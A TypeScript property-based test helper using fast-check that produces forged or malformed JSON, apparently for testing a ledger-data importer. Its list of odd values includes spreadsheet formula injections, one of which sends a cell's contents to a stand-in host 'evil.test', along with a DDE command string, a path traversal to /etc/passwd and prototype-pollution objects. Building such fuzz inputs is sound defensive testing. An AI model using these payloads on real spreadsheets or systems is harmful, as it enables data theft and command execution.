import fc from 'fast-check';

/** What stands in JSON that somebody else has written: of another kind, huge, nested, reaching outside, with names that mean something to a program. */
const ODD: readonly unknown[] = [
  ...[null, true, false, 0, -1, 0.5, 1e308, 2 ** 53, 99_999_999, '', ' ', 'x'],
  ...['=WEBSERVICE("http://evil.test/?d="&B3)', `=cmd|'/c calc'!A0`, '=[1]台账!$A$1', "='C:\\a\\[b.xlsx]表'!A1"],
  ...['=MUJUN_TIER(WEBSERVICE("http://evil.test"),1)', '=HYPERLINK("http://evil.test","点")', '@SUM(1)', '+1+1'],
  ...[
    '台账',
    '汇算',
    '标准台账',
    '../../etc/passwd',
    '__proto__',
    'constructor',
    '企业名称',
    '税收(万元)',
    '亩',
    '2020-01-01',
  ],
  ...['长'.repeat(5_000), '\u0000\u202e', '<b>&amp;"', '{"a":', '\ud800'],
  ...[[], {}, [[]], [null], [{}], { toString: 1, valueOf: 2 }, { length: 1e9 }, { then: 1 }],
  JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  Array.from({ length: 3_000 }, (_, at) => at),
  Array.from({ length: 300 }).reduce<unknown>((inner) => [inner], 'innen'),
  Array.from({ length: 300 }).reduce<unknown>((inner) => ({ parts: inner }), 1),
];

type Key = string | number;

/** Every place inside of a JSON value, the value itself first. */
function placesIn(value: unknown, above: readonly Key[] = []): (readonly Key[])[] {
  if (typeof value !== 'object' || value === null) return [above];
  const keys: readonly Key[] = Array.isArray(value) ? value.slice(0, 40).map((_, at) => at) : Object.keys(value);
  return [above, ...keys.flatMap((key) => placesIn((value as Readonly<Record<Key, unknown>>)[key], [...above, key]))];
}

/** A copy in which one place holds something else: `undefined` takes it away. */
function replaced(value: unknown, [key, ...below]: readonly Key[], by: unknown): unknown {
  if (key === undefined) return by;
  const own = (value as Readonly<Record<Key, unknown>>)[key];
  const inner = replaced(own, below, by);
  if (Array.isArray(value))
    return value.flatMap((one: unknown, at) => (at !== key ? [one] : inner === undefined ? [] : [inner]));
  const entries = Object.entries(value as object).map(([name, one]) => [name, name === key ? inner : (one as unknown)]);
  return Object.fromEntries(entries.filter(([, one]) => one !== undefined));
}

interface Touch {
  readonly at: number;
  readonly how: 'odd' | 'gone' | 'twice' | 'elsewhere' | 'many';
  readonly odd: number;
  readonly from: number;
}

function touched(value: unknown, { at, how, odd, from }: Touch): unknown {
  const places = placesIn(value);
  const place = places[at % places.length] ?? [];
  const valueAt = (keys: readonly Key[]) =>
    keys.reduce<unknown>((of, key) => (of as Readonly<Record<Key, unknown>>)[key], value);
  const own = valueAt(place);
  switch (how) {
    case 'odd':
      return replaced(value, place, ODD[odd % ODD.length]);
    case 'gone':
      return place.length === 0 ? {} : replaced(value, place, undefined);
    case 'twice':
      return Array.isArray(own) ? replaced(value, place, [...(own as unknown[]), ...(own as unknown[])]) : value;
    case 'many':
      return Array.isArray(own)
        ? replaced(
            value,
            place,
            Array.from({ length: 500 }, () => (own as unknown[])[0] ?? null),
          )
        : value;
    case 'elsewhere':
      return replaced(value, place, valueAt(places[from % places.length] ?? []));
  }
}

const touch = fc.record({
  at: fc.nat(),
  how: fc.constantFrom(...(['odd', 'odd', 'odd', 'gone', 'twice', 'elsewhere', 'many'] as const)),
  odd: fc.nat(),
  from: fc.nat(),
});

/** What somebody makes of a genuine value: a few places of it changed, or something else altogether. */
export function forgedJson(genuine: unknown): fc.Arbitrary<unknown> {
  const changed = fc.array(touch, { minLength: 1, maxLength: 4 }).map((touches) => touches.reduce(touched, genuine));
  return fc.oneof(
    { weight: 8, arbitrary: changed },
    { weight: 1, arbitrary: fc.jsonValue() },
    { weight: 1, arbitrary: fc.constantFrom(...ODD) },
  );
}
